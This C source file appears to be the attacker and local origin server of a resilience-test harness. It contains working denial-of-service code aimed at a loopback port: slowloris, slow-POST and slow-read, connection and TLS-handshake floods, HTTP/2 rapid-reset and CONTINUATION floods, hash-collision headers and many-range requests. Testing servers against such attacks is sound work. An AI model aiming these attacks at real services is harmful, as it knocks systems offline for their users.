// The attacker of attacks.py, and its origin: floods and slow clients against one port of this machine, by one epoll loop.
// Usage: attack KIND PORT SECONDS [CONNECTIONS [SOURCES]]     attack origin PORT
// Each connection comes from one of SOURCES addresses, 127.1.0.0 and following, or from 127.0.0.1 when there are none. A connection that
// ends is opened again. Ends by itself after SECONDS and prints what it did as one line.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum after { HOLD, NEXT, CLOSE };           // what follows an answer
enum mode { ASK, RESET, CONTINUATION };

struct kind {
    const char *name;
    int connections, sources;
    enum after after;
    int drip_ms;                            // a drip of octets each so often, 0: none
    int sip_ms;                             // 0: reads all there is; else reads a little each so often
    int batch;                              // requests sent at once
    enum mode mode;
};

static const struct kind KINDS[] = {
    {"warm", 64, 256, NEXT, 0, 0, 1, ASK},
    {"slowloris", 10000, 256, HOLD, 3000, 0, 1, ASK},
    {"slow-post", 4000, 256, HOLD, 1000, 0, 1, ASK},
    {"slow-read", 4000, 256, HOLD, 0, 1000, 1, ASK},
    {"flood-one", 1000, 0, CLOSE, 0, 0, 1, ASK},
    {"flood-many", 1000, 1024, CLOSE, 0, 0, 1, ASK},
    {"rapid-reset", 64, 64, HOLD, 0, 0, 1, RESET},
    {"continuation", 64, 64, HOLD, 0, 0, 1, CONTINUATION},
    {"handshakes", 512, 1024, CLOSE, 0, 0, 1, ASK},
    {"hash", 256, 256, NEXT, 0, 0, 1, ASK},
    {"keys", 64, -1, NEXT, 0, 0, 64, ASK},
    {"ranges", 64, 64, NEXT, 0, 0, 1, ASK},
    {"expect", 4000, 256, HOLD, 0, 0, 1, ASK},
};

#define OUT (96 * 1024)
#define OPENS_A_TURN 128
#define PATIENCE_MS 15000

struct slot {
    int fd, source, out_at, out_length, answers, match, acked;
    uint32_t stream;
    int64_t due_ms, since_ms;
    char connecting, asked, *out;           // out: own octets, only where they differ from slot to slot
};

static const struct kind *kind;
static struct slot *slots;
static struct sockaddr_in target;
static int poller, count, sources;
static int64_t now_ms;
static char first[OUT], drip[4096];
static int first_length, drip_length;
static uint64_t opened, refused, cut, answers, good, sent, key, late;

static int64_t clock_ms(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static int frame(char *at, int length, int type, int flags, uint32_t stream) {
    char head[9] = {length >> 16, length >> 8, length, type, flags, stream >> 24, stream >> 16, stream >> 8, stream};
    memcpy(at, head, 9);
    return 9;
}

// A TLS 1.3 ClientHello with an X25519 share that nobody holds the key of: the server does all of its work, the attacker none.
static int client_hello(char *at) {
    unsigned char body[512];
    int n = 0;
    #define PUT(...) do { unsigned char b[] = {__VA_ARGS__}; memcpy(body + n, b, sizeof b); n += sizeof b; } while (0)
    PUT(3, 3);
    for (int i = 0; i < 32; i++) body[n++] = rand();
    PUT(0);
    PUT(0, 4, 0x13, 0x01, 0x13, 0x02, 1, 0);
    int extensions = n;
    n += 2;
    PUT(0, 0, 0, 14, 0, 12, 0, 0, 9, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't');
    PUT(0, 43, 0, 3, 2, 3, 4);
    PUT(0, 10, 0, 4, 0, 2, 0, 29);
    PUT(0, 13, 0, 8, 0, 6, 4, 3, 8, 4, 8, 7);
    PUT(0, 51, 0, 38, 0, 36, 0, 29, 0, 32);
    for (int i = 0; i < 32; i++) body[n++] = rand() & 0x7f;
    int length = n - extensions - 2;
    body[extensions] = length >> 8, body[extensions + 1] = length;
    unsigned char head[9] = {22, 3, 1, (n + 4) >> 8, n + 4, 1, 0, n >> 8, n};
    memcpy(at, head, 9);
    memcpy(at + 9, body, n);
    return n + 9;
}

static void prepare(void) {
    char *f = first;
    if (!strcmp(kind->name, "warm") || !strncmp(kind->name, "flood", 5)) {
        f += sprintf(f, "GET /f HTTP/1.1\r\nHost: localhost\r\n\r\n");
    } else if (!strcmp(kind->name, "slowloris")) {
        f += sprintf(f, "GET /f HTTP/1.1\r\nHost: localhost\r\n");
        drip_length = sprintf(drip, "X-a: b\r\n");
    } else if (!strcmp(kind->name, "slow-post")) {
        f += sprintf(f, "POST /f HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n");
        drip_length = sprintf(drip, "x");
    } else if (!strcmp(kind->name, "slow-read")) {
        f += sprintf(f, "GET /big HTTP/1.1\r\nHost: localhost\r\n\r\n");
    } else if (!strcmp(kind->name, "expect")) {
        f += sprintf(f, "POST /f HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue\r\nContent-Length: 1000\r\n\r\n");
    } else if (!strcmp(kind->name, "hash")) {
        // 96 names of equal length, equal ends, and one value under every hash of the form h * 31 + c: 97 * 31 + 126 = 98 * 31 + 95.
        f += sprintf(f, "GET /f HTTP/1.1\r\nHost: localhost\r\n");
        for (int i = 0; i < 96; i++) {
            f += sprintf(f, "x-");
            for (int bit = 0; bit < 7; bit++) f += sprintf(f, "%s", i >> bit & 1 ? "a~" : "b_");
            f += sprintf(f, "-x: %d\r\n", i);
        }
        f += sprintf(f, "\r\n");
    } else if (!strcmp(kind->name, "ranges")) {
        f += sprintf(f, "GET /cached/big HTTP/1.1\r\nHost: localhost\r\nRange: bytes=0-0");
        for (int i = 1; i < 450; i++) f += sprintf(f, ",%d-%d", i * 2, 1000000 + i);
        f += sprintf(f, "\r\n\r\n");
    } else if (!strcmp(kind->name, "handshakes")) {
        f += client_hello(f);
    }
    if (kind->mode != ASK) {
        f += sprintf(f, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        f += frame(f, 0, 4, 0, 0);
    }
    first_length = f - first;
}

static const char *FIELDS = "\x82\x84\x86\x41\x09localhost";
#define FIELDS_LENGTH 14

static void fill(struct slot *s) {
    char *at = s->out;
    if (kind->mode == RESET) {
        for (int i = 0; i < 100; i++, s->stream += 2) {
            at += frame(at, FIELDS_LENGTH, 1, 5, s->stream);
            memcpy(at, FIELDS, FIELDS_LENGTH), at += FIELDS_LENGTH;
            at += frame(at, 4, 3, 0, s->stream);
            memcpy(at, "\0\0\0\x08", 4), at += 4;
        }
    } else if (kind->mode == CONTINUATION) {
        if (s->stream == 1) {
            at += frame(at, FIELDS_LENGTH, 1, 1, 1);
            memcpy(at, FIELDS, FIELDS_LENGTH), at += FIELDS_LENGTH;
            s->stream = 3;
        }
        for (int i = 0; i < 1000; i++) {
            at += frame(at, 5, 9, 0, 1);
            memcpy(at, "\0\1a\1b", 5), at += 5;
        }
    } else {
        for (int i = 0; i < kind->batch; i++, key++) {
            // An odd factor visits each of 2^24 values once before any comes again.
            uint32_t k = (uint32_t)(key * 0x9e3779b1u) & 0xffffff;
            at += sprintf(at, "GET /none HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 20.%u.%u.%u\r\n\r\n", k >> 16, k >> 8 & 255, k & 255);
        }
    }
    s->out_at = 0, s->out_length = at - s->out;
}

static void shut(struct slot *s) {
    struct linger now = {1, 0};
    setsockopt(s->fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
    close(s->fd);
    s->fd = -1;
    s->due_ms = now_ms + (kind->after == HOLD ? 100 : 0);
}

static void open_one(struct slot *s) {
    int one = 1, small = 4096;
    s->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (s->fd < 0) { s->due_ms = now_ms + 100; return; }
    if (sources > 0) {
        struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f010000 + s->source)};
        setsockopt(s->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
        if (bind(s->fd, (void *)&from, sizeof from)) { shut(s); s->due_ms = now_ms + 100; return; }
    }
    setsockopt(s->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (kind->sip_ms) setsockopt(s->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    if (connect(s->fd, (void *)&target, sizeof target) && errno != EINPROGRESS) { refused++; shut(s); s->due_ms = now_ms + 20; return; }
    s->connecting = 1, s->asked = 0, s->match = 0, s->answers = 0, s->acked = 0, s->stream = 1, s->since_ms = now_ms;
    s->due_ms = 0, s->out_at = s->out_length = 0;
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLET, .data.u32 = s - slots};
    epoll_ctl(poller, EPOLL_CTL_ADD, s->fd, &event);
}

static int push(struct slot *s, const char *octets, int length) {
    ssize_t n = send(s->fd, octets, length, MSG_NOSIGNAL);
    if (n > 0) { sent += n; return n; }
    if (n < 0 && errno != EAGAIN && errno != EINTR) { cut++; shut(s); return -1; }
    return 0;
}

// Asks what is to be asked now. Requests are small: one that does not go at once is as good as sent.
static void ask(struct slot *s) {
    s->since_ms = now_ms, s->answers = 0;
    if (!s->asked && first_length) {
        s->asked = 1;
        if (push(s, first, first_length) < 0) return;
    } else if (first_length && kind->mode == ASK && push(s, first, first_length) < 0) return;
    s->asked = 1;
    s->due_ms = kind->drip_ms ? now_ms + 1 + rand() % kind->drip_ms : kind->sip_ms ? now_ms + kind->sip_ms : 0;
    if (!first_length) {
        fill(s);
        push(s, s->out, s->out_length);
    }
}

// Sends frames without end, a share a turn.
static void pump(struct slot *s) {
    for (int i = 0; i < 4; i++) {
        if (s->out_at == s->out_length) fill(s);
        int n = push(s, s->out + s->out_at, s->out_length - s->out_at);
        if (n < 0) return;
        s->out_at += n;
        if (s->out_at < s->out_length) return;
    }
    s->due_ms = now_ms;
}

static void count_answers(struct slot *s, const char *octets, ssize_t length) {
    static const char mark[] = "HTTP/1.1 ";
    for (ssize_t i = 0; i < length; i++) {
        if (s->match == 9) {
            if (octets[i] == '2') good++;
            answers++, s->answers++, s->match = 0;
        }
        s->match = octets[i] == mark[s->match] ? s->match + 1 : octets[i] == 'H';
    }
}

static void readable(struct slot *s) {
    static char buffer[65536];
    for (;;) {
        ssize_t n = recv(s->fd, buffer, kind->sip_ms ? 64 : sizeof buffer, 0);
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) { cut++; shut(s); return; }
        if (n < 0) return;
        if (kind->sip_ms) { s->since_ms = now_ms; return; }
        if (kind->mode != ASK) {
            if (!s->acked) {
                char ack[9];
                s->acked = 1;
                frame(ack, 0, 4, 1, 0);
                // Between two frames only: a partial batch must not be torn apart.
                if (s->out_at == s->out_length && push(s, ack, 9) < 0) return;
            }
            continue;
        }
        if (kind->after == CLOSE) { answers++; good += n > 9 && buffer[9] == '2'; shut(s); return; }
        count_answers(s, buffer, n);
        if (kind->after == NEXT && s->answers >= kind->batch) { ask(s); if (s->fd < 0) return; }
    }
}

static int attack(int argc, char **argv) {
    for (unsigned i = 0; i < sizeof KINDS / sizeof *KINDS; i++) if (!strcmp(KINDS[i].name, argv[1])) kind = &KINDS[i];
    if (!kind) return fprintf(stderr, "unknown kind %s\n", argv[1]), 2;
    target = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(argv[2])), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    double seconds = atof(argv[3]);
    count = argc > 4 ? atoi(argv[4]) : kind->connections;
    sources = argc > 5 ? atoi(argv[5]) : kind->sources;
    slots = calloc(count, sizeof *slots);
    poller = epoll_create1(0);
    prepare();
    now_ms = clock_ms();
    int own = kind->mode != ASK || !first_length;
    for (int i = 0; i < count; i++) {
        slots[i].fd = -1, slots[i].source = sources > 0 ? i % sources : 0;
        if (own) slots[i].out = malloc(OUT);
    }
    int64_t end_ms = now_ms + seconds * 1000;
    int cursor = 0;
    static struct epoll_event events[512];
    while ((now_ms = clock_ms()) < end_ms) {
        int opens = 0;
        // A share of the slots each turn: whoever is due drips, sips, pumps, or is opened.
        for (int i = 0; i < 2048 && i < count; i++, cursor = (cursor + 1) % count) {
            struct slot *s = &slots[cursor];
            if (s->fd < 0) {
                if (s->due_ms <= now_ms && opens < OPENS_A_TURN) {
                    opens++;
                    // Floods from many addresses change theirs with each connection.
                    if (kind->after == CLOSE && sources > 0) s->source = rand() % sources;
                    open_one(s);
                }
                continue;
            }
            if (s->connecting || kind->after != HOLD) {
                if (now_ms - s->since_ms > PATIENCE_MS) { late++; shut(s); }
                continue;
            }
            if (!s->due_ms || s->due_ms > now_ms) continue;
            if (kind->mode != ASK) { s->due_ms = 0; pump(s); }
            else if (kind->drip_ms) { s->due_ms = now_ms + kind->drip_ms; push(s, drip, drip_length); }
            else if (kind->sip_ms) { s->due_ms = now_ms + kind->sip_ms; readable(s); }
        }
        int ready = epoll_wait(poller, events, 512, opens == OPENS_A_TURN || kind->mode != ASK ? 0 : 1);
        for (int i = 0; i < ready; i++) {
            struct slot *s = &slots[events[i].data.u32];
            if (s->fd < 0) continue;
            if (events[i].events & EPOLLERR) {
                if (s->connecting) refused++; else cut++;
                shut(s);
                continue;
            }
            if (s->connecting && events[i].events & EPOLLOUT) {
                s->connecting = 0, opened++;
                ask(s);
            }
            if (s->fd >= 0 && !s->connecting && kind->mode != ASK && events[i].events & EPOLLOUT) pump(s);
            if (s->fd >= 0 && !kind->sip_ms && events[i].events & (EPOLLIN | EPOLLHUP)) readable(s);
        }
    }
    int held = 0;
    for (int i = 0; i < count; i++) held += slots[i].fd >= 0 && !slots[i].connecting;
    printf("opened=%lu refused=%lu cut=%lu late=%lu answers=%lu good=%lu sent=%lu keys=%lu held=%d\n",
           opened, refused, cut, late, answers, good, sent, key < 1 << 24 ? key : 1 << 24, held);
    return 0;
}

// Answers a request once it is whole: /big with 1 MiB, everything else with 100 octets. Large answers wait for their reader.
struct peer { int64_t content; int64_t left; char head[4096]; int length; };

static int serve(int port) {
    static struct peer *peers[65536];
    static struct epoll_event events[256];
    static char body[65536], buffer[65536];
    memset(body, 'x', sizeof body);
    int one = 1, buffered = 65536, listener = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    setsockopt(listener, SOL_SOCKET, SO_SNDBUF, &buffered, sizeof buffered);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (bind(listener, (void *)&address, sizeof address) || listen(listener, 4096)) return perror("bind"), 1;
    poller = epoll_create1(0);
    struct epoll_event event = {.events = EPOLLIN, .data.fd = listener};
    epoll_ctl(poller, EPOLL_CTL_ADD, listener, &event);
    char date[64];
    time_t now = time(0);
    strftime(date, sizeof date, "%a, %d %b %Y %H:%M:%S GMT", gmtime(&now));
    for (;;) {
        int ready = epoll_wait(poller, events, 256, -1);
        for (int i = 0; i < ready; i++) {
            int fd = events[i].data.fd;
            if (fd == listener) {
                for (int client; (client = accept4(listener, 0, 0, SOCK_NONBLOCK)) >= 0;) {
                    if (client >= 65536) { close(client); continue; }
                    setsockopt(client, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
                    free(peers[client]);
                    peers[client] = calloc(1, sizeof(struct peer));
                    event.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, event.data.fd = client;
                    epoll_ctl(poller, EPOLL_CTL_ADD, client, &event);
                }
                continue;
            }
            struct peer *p = peers[fd];
            int gone = 0;
            for (int again = 1; again && !gone;) {
                again = 0;
                while (p->left > 0) {
                    ssize_t n = send(fd, body, p->left < (int64_t)sizeof body ? p->left : (int64_t)sizeof body, MSG_NOSIGNAL);
                    if (n < 0) { gone = errno != EAGAIN; break; }
                    p->left -= n;
                }
                // One request at a time: what comes behind it waits in the kernel.
                if (gone || p->left > 0) break;
                ssize_t n = p->content > 0 ? recv(fd, buffer, p->content < (int64_t)sizeof buffer ? p->content : (int64_t)sizeof buffer, 0)
                                           : recv(fd, p->head + p->length, sizeof p->head - 1 - p->length, 0);
                if (n == 0 || (n < 0 && errno != EAGAIN)) gone = 1;
                if (n <= 0) break;
                again = 1;
                int whole = 0;
                if (p->content > 0) whole = (p->content -= n) == 0;
                else {
                    p->length += n, p->head[p->length] = 0;
                    char *end = strstr(p->head, "\r\n\r\n");
                    if (!end && p->length == sizeof p->head - 1) {
                        // A huge head: what matters stands at its begin and its end.
                        memmove(p->head + 512, p->head + p->length - 4, 4), p->length = 516;
                    }
                    if (!end) continue;
                    char *field = strcasestr(p->head, "\r\nContent-Length:");
                    p->content = field ? atoll(field + 17) - (p->head + p->length - end - 4) : 0;
                    p->length = 0;
                    whole = p->content <= 0;
                }
                if (!whole) continue;
                int64_t size = strstr(p->head, "big") && memmem(p->head, 40, "big", 3) ? 1 << 20 : 100;
                char head[512];
                int length = sprintf(head, "HTTP/1.1 200 OK\r\nDate: %s\r\nContent-Type: text/plain\r\nContent-Length: %ld\r\n"
                                           "Cache-Control: max-age=86400\r\n\r\n", date, size);
                p->content = 0, p->left = size;
                if (size == 100) memcpy(head + length, body, 100), length += 100, p->left = 0;
                gone = send(fd, head, length, MSG_NOSIGNAL) != length;
            }
            if (gone) { close(fd); free(p); peers[fd] = 0; }
        }
    }
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    struct rlimit files;
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    if (!strcmp(argv[1], "origin")) return serve(atoi(argv[2]));
    if (argc < 4) return 2;
    alarm(atoi(argv[3]) + 10);
    return attack(argc, argv);
}
